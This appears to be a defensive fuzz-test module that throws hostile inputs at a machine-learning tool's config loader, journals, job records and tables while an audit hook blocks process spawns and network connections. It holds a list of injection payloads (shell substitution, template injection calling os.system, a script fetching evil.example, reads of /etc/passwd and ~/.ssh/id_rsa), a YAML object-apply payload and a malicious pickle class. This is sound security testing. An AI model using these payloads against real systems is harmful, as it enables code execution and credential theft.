"""Files of strangers that attack: suites, journals, records of submissions, tables. Nothing of them runs or connects.

`PYTHONPATH=tests python -m trust.attacks 500` prints the table of docs/guarantees.md. Each case is put to the program while a
guard of the interpreter (an audit hook) watches for programs that are started and addresses that are connected to.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import shutil
import string
import sys
import tempfile
import threading
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import yaml
from hydra import compose, initialize_config_dir
from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy
from omegaconf import OmegaConf

from shapelaw.config import TrainConfig
from shapelaw.config.schema import to_dataclass
from shapelaw.planned_run import plan_run
from shapelaw.runs import RunsTable, load_runs
from shapelaw.sweep import records
from shapelaw.sweep.task import Job
from shapelaw.terminal import KEPT, printable
from shapelaw.tracking import deliver_left, open_store
from shapelaw.tracking.delivery import SENT
from shapelaw.tracking.journal import FIELDS, JOURNAL, line_of
from shapelaw.verbs.doors import store_schemas
from shapelaw.verbs.main import set_environment
from shapelaw.verbs.suites import environment
from trust.fuzz import ROOT, TINY, Place, refused, run

FORBIDDEN = (
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "os.forkpty",
    "subprocess.Popen",
    "os.startfile",
    "pty.spawn",
)
CONNECTING = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto", "socket.sendmsg")


class Guard:
    """Notes and refuses what an attack would do, while it is armed; an audit hook cannot be taken away again."""

    def __init__(self) -> None:
        self.armed, self.executed, self.connected = False, list[str](), list[str]()
        self.before = frozenset[int]()
        """Threads that run already, such as what hurries SLURM beside other tests: what they do is not the attack's."""
        sys.addaudithook(self._heard)

    def _heard(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.armed or event not in (*FORBIDDEN, *CONNECTING) or threading.get_ident() in self.before:
            return
        (self.executed if event in FORBIDDEN else self.connected).append(f"{event}{arguments!r}")
        raise PermissionError(f"the guard refuses {event}")

    @contextlib.contextmanager
    def watching(self, trace: Path) -> Iterator[None]:
        """Nothing runs, connects or leaves a trace meanwhile."""
        others = (thread.ident for thread in threading.enumerate() if thread is not threading.current_thread())
        self.before = frozenset(ident for ident in others if ident is not None)
        self.executed, self.connected, self.armed = [], [], True
        try:
            yield
        finally:
            self.armed = False
        assert not self.executed, f"it ran: {self.executed}"
        assert not self.connected, f"it connected: {self.connected}"
        assert not trace.exists(), "it left a trace"


GUARD = Guard()


class Spy:
    """Unpickled, it leaves a trace."""

    def __init__(self, trace: str) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return os.mkdir, (self.trace,)


def payloads(trace: Path) -> list[str]:
    """Texts that some interpreter somewhere would act on."""
    return [
        f"$(touch {trace})",
        f"`touch {trace}`",
        f"; touch {trace} #",
        f"x\ntouch {trace}\n",
        f"__import__('os').mkdir('{trace}')",
        f"=cmd|' /C touch {trace}'!A1",
        "{{ cycler.__init__.__globals__.os.system('id') }}",
        "<script>fetch('http://evil.example')</script>",
        "${oc.env:HOME}",
        "${oc.env:SHAPELAW_X,${oc.env:HOME}}",
        "${oc.create:{_target_: os.system}}",
        "http://evil.example:5000",
        "postgresql://me:planted@evil.example/x",
        "sqlite:////etc/passwd",
        "file:///etc/passwd",
        "../../../../etc/passwd",
        "/etc/passwd",
        "~/.ssh/id_rsa",
        "\x1b]0;owned\x07\x1b[31m",
        "[red]x[/blue]",
        "\u202e\u0000\ud800",
        f"{trace}.py:attack",
        "os.system",
        "-1",
        "1e999",
        "9" * 400,
        "[" * 50_000,
        "",
    ]


def attacked_places(folder: Path) -> list[Place]:
    """Every place, its material made in a folder."""
    folder.mkdir(parents=True)
    trace = folder / "trace"
    texts = st.one_of(st.sampled_from(payloads(trace)), st.text(string.printable, max_size=12))
    plain = st.one_of(texts, st.integers(-5, 2**70), st.floats(), st.none(), st.booleans())
    values = st.recursive(
        plain,
        lambda held: st.one_of(st.lists(held, max_size=3), st.dictionaries(texts, held, max_size=3)),
        max_leaves=5,
    )
    return [
        _suites(folder / "suites", trace, values),
        _journals(folder / "journals", trace, values),
        _submissions(folder / "submissions", trace, values),
        _tables(folder / "tables", trace, texts),
    ]


def _guarded(trace: Path, call: Callable[[], Any]) -> bool:
    """Whether it was accepted; a message for the user must be printable once it is printed."""
    with GUARD.watching(trace):
        said = refused(call)
    assert said is None or all(letter.isprintable() or letter in KEPT for letter in printable(said))
    return said is None


def _suites(folder: Path, trace: Path, values: SearchStrategy[Any]) -> Place:
    """Any key of any file of a suite's folder, in any package."""
    files = [
        "suite.yaml",
        "shape/16x1.yaml",
        "shape/evil.yaml",
        "sweeps/evil.yaml",
        "hydra/launcher/local.yaml",
        "law/evil.yaml",
    ]
    packages = ["", "# @package _global_\n", "# @package hydra.callbacks\n", "# @package tracker\n"]
    keys = [
        *(
            "hydra",
            "defaults",
            "tracker",
            "suite",
            "tokens",
            "_target_",
            "hydra.callbacks.x._target_",
            "outputs_dir",
            "shape",
        ),
        *("tracker.uri", "lr_base", "law", "callbacks", "searchpath", "+hydra.run.dir", "width", "hydra/launcher"),
    ]
    usual = st.fixed_dictionaries(
        {}, optional={"tokens": st.just(2560), "lr_base": st.just(1.5), "seed": st.integers(0, 9)}
    )
    attack = st.dictionaries(st.sampled_from(keys), values, min_size=1, max_size=3)
    content = st.one_of(usual, attack)
    odd = {"object": f"!!python/object/apply:os.mkdir ['{trace}']", "anchor": "&a [*a, *a]", "deep": "[" * 3000}
    cases = st.tuples(
        st.sampled_from(files), st.sampled_from(packages), content, st.sampled_from([None, None, None, *odd.values()])
    )
    store_schemas()
    os.environ |= {"SHAPELAW_SUITE": str(TINY), "SHAPELAW_OUTPUTS": str(folder / "outputs")}
    set_environment(ROOT)
    suite = folder / "evil"

    def composed(shape: str) -> None:
        os.environ.update(environment(ROOT, str(suite)))
        with initialize_config_dir(str(ROOT / "conf")):
            for name, overrides in (("train", [f"shape={shape}"]), ("fit", ["runs=csv", "runs.path=x"])):
                config = compose(name, ["tracker=none", *overrides], return_hydra_config=True)
                assert not config.hydra.callbacks
                assert str(config.outputs_dir) == str(folder / "outputs")
            asked: TrainConfig = to_dataclass(compose("train", ["tracker=none", f"shape={shape}"]))
            plan_run(asked, "0" * 64)

    def judge(case: tuple[str, str, dict[str, Any], str | None]) -> bool:
        shutil.rmtree(suite, ignore_errors=True)
        shutil.copytree(TINY, suite)
        file, head, held, raw = case
        path = suite / file
        path.parent.mkdir(parents=True, exist_ok=True)
        before = path.read_text() if path.exists() else ""
        path.write_text(head + before + yaml.safe_dump(held) + (f"extra: {raw}\n" if raw else ""), errors="replace")
        return _guarded(trace, lambda: composed("evil" if file == "shape/evil.yaml" else "16x1"))

    shutil.copytree(TINY, suite)
    assert refused(lambda: composed("16x1")) is None, "a suite that does not attack is taken"
    return Place("suites of strangers", cases, judge)


def _journals(folder: Path, trace: Path, values: SearchStrategy[Any]) -> Place:
    """A run's folder whose journal's lines have right checksums, delivered to the user's own store."""
    folder.mkdir()
    secret = folder / "id_rsa"
    secret.write_text("planted-key")
    own, artifacts = f"sqlite:///{folder}/own/mlflow.db", folder / "own" / "artifacts"
    open_store(own, str(artifacts), "x")
    paths = ["own.txt", str(secret), "../id_rsa", "link", "../../../etc/passwd", "", ".", "\x00", "own.txt/x"]
    likely = {
        "path": st.sampled_from(paths),
        "folder": st.sampled_from([None, "../../up", "/tmp/x"]),
        "values": st.just({"val/loss": 2.0}),
        "tokens": st.integers(0, 9),
        "time": st.integers(0, 9),
        "status": st.sampled_from(["FINISHED", "FAILED"]),
        "info": st.fixed_dictionaries(
            {"identity": values, "kind": values, "name": values, "params": values, "tags": values}
        ),
    }
    record = st.one_of(
        st.fixed_dictionaries(
            {"kind": st.just(kind)}
            | {key: st.one_of(likely.get(key, values), values) for key in ("time", *FIELDS[kind])}
        )
        for kind in FIELDS
    )
    note = st.one_of(
        st.none(), st.dictionaries(st.sampled_from(["uri", "run_id", "bytes", "files"]), values, max_size=4)
    )
    sent = folder / "sent" / "16x1-aaa"

    def judge(case: tuple[list[dict[str, Any]], Any, Any]) -> bool:
        lines, start, noted = case
        shutil.rmtree(sent, ignore_errors=True)
        sent.mkdir(parents=True)
        (sent / "own.txt").write_text("of the run")
        (sent / "link").symlink_to(secret)
        info = {"identity": "aaa", "kind": "train", "name": "x", "params": {}, "tags": {}, "parent_run_id": None}
        first = {"info": info, "uri": "http://evil.example:5000", "artifacts": "/tmp/loot", "experiment": "x"}
        first |= {"kind": "start", "time": 1, "experiment_id": None} | ({} if start is None else {"experiment": start})
        (sent / JOURNAL).write_bytes(b"".join(_line(each) for each in (first, *lines)))
        if noted is not None:
            (sent / SENT).write_text(json.dumps(noted))
        accepted = _guarded(trace, lambda: deliver_left(sent, own, str(artifacts)))
        kept = [path for path in artifacts.rglob("*") if path.is_file()]
        assert not any("planted-key" in path.read_text(errors="replace") for path in kept), (
            "a file of the user was sent"
        )
        return accepted

    cases = st.tuples(st.lists(record, max_size=4), st.one_of(st.none(), values), note)
    return Place("journals of strangers", cases, judge)


def _line(record: dict[str, Any]) -> bytes:
    """A line with its checksum; what is no JSON, such as NaN, stands there without."""
    try:
        return line_of(record)
    except ValueError:
        return json.dumps(record).encode() + b"\n"


def _submissions(folder: Path, trace: Path, values: SearchStrategy[Any]) -> Place:
    """The files of an array of jobs, replaced by somebody else, in folders that they may write to or with wrong digests."""
    made = [0]

    def judge(case: tuple[int, int, bool, Any, Any, bytes]) -> bool:
        mode, inner, digest, job, tasks, number = case
        made[0] += 1
        root = folder / str(made[0])
        batch = records.new_batch(root, "batch")
        planned = Job("a1b2c3d4e5f6", "a", root / "run")
        config = OmegaConf.create({"seed": 1})
        records.fill_batch(batch, {0: [planned]}, lambda one: records.Work(None, config, one.folder))  # type: ignore[arg-type]
        bomb = pickle.dumps(Spy(str(trace)))
        right = digest and mode != records.PRIVATE
        (batch / "runs" / f"{planned.identity}.pkl").write_bytes(
            (records._sha256(bomb).encode() if right else b"0" * 64) + bomb
        )
        if job is not None:
            (planned.folder / "job.json").write_text(json.dumps(job))
        if tasks is not None and made[0] % 50 == 0:
            (batch / "tasks.json").write_text("[" * 100_000)
        elif tasks is not None:
            (batch / "tasks.json").write_text(json.dumps(tasks))
        (batch / "job_id").write_bytes(number)
        (batch / "runs" if inner else batch).chmod(mode)
        asked = [
            lambda: records.submission_of(planned.folder),
            lambda: records.identities_of(batch, 0),
            lambda: records.job_id_of(batch),
            lambda: records.read_work(batch, planned.identity),
        ]
        try:
            return all([_guarded(trace, one) for one in asked])
        finally:
            shutil.rmtree(root)

    modes = st.sampled_from([0o700, 0o777, 0o770, 0o755, 0o1777, 0o702])
    loose = st.one_of(st.none(), values, st.dictionaries(st.sampled_from(["batch", "task", "attempt", "0"]), values))
    cases = st.tuples(modes, st.integers(0, 1), st.booleans(), loose, loose, st.binary(max_size=20))
    return Place("records of submissions of strangers", cases, judge)


def _tables(folder: Path, trace: Path, texts: SearchStrategy[str]) -> Place:
    """Runs tables whose names, columns and cells attack; accepted ones are written, read back and told."""
    folder.mkdir()
    numbers = st.sampled_from(["1e6", "2e8", "3.1", "nan", "inf", "-1", "", "1e999", "0x10", "1_000"])
    row = st.tuples(texts, st.one_of(numbers, texts), st.one_of(numbers, texts), st.one_of(numbers, texts))

    def read(path: Path) -> None:
        table = load_runs("csv", path=str(path), bad_rows="exclude")
        again = RunsTable.read(table.to_parquet(folder / "again.parquet"))
        assert again.frame["run"].tolist() == table.frame["run"].tolist()
        told = printable(f"{again.exclusions} {again.about} {again!r}")
        assert all(letter.isprintable() or letter in KEPT for letter in told)

    def judge(case: tuple[str, str, list[tuple[str, ...]], str]) -> bool:
        kind, column, rows, where = case
        good = [(f"r{n}", f"{n}e6", f"{k}e8", f"{2 + 1 / n + 1 / k:.4f}") for n in (1, 2, 4) for k in (1, 2)]
        names = ("run", "params", "tokens", "loss")
        path = folder / f"runs.{kind}"
        if kind == "json":
            path.write_text(
                json.dumps([dict(zip(names, one, strict=True)) | {column: one[0]} for one in (*good, *rows)])
            )
        else:
            lines = [
                ",".join((*names, _cell(column))),
                *(",".join(map(_cell, (*one, one[0]))) for one in (*good, *rows)),
            ]
            path.write_text("\n".join(lines), errors="surrogatepass")
        accepted = _guarded(trace, lambda: read(path))
        if accepted:
            _guarded(trace, lambda: load_runs("csv", path=str(path), bad_rows="exclude", where=where))
        return accepted

    cases = st.tuples(st.sampled_from(["csv", "json"]), texts, st.lists(row, max_size=4), texts)
    return Place("tables of strangers", cases, judge)


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def main(cases: int) -> int:
    """Print the table; the exit code."""
    say = sys.stdout.write
    columns = ("files", "cases", "refused", "accepted", "executions", "connections", "tracebacks")
    say(f"| {' | '.join(columns)} |\n|{' --- |' * len(columns)}\n")
    failed = 0
    with tempfile.TemporaryDirectory() as name:
        for place in attacked_places(Path(name) / "material"):
            try:
                tally = run(place, cases)
                say(
                    f"| {place.name} | {tally.total():,} | {tally['refused']:,} | {tally['accepted']:,} | 0 | 0 | 0 |\n"
                )
            except Exception:
                failed += 1
                say(f"| {place.name} | | | | | | {traceback.format_exc()} |\n")
            sys.stdout.flush()
    return int(failed > 0)


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1])))
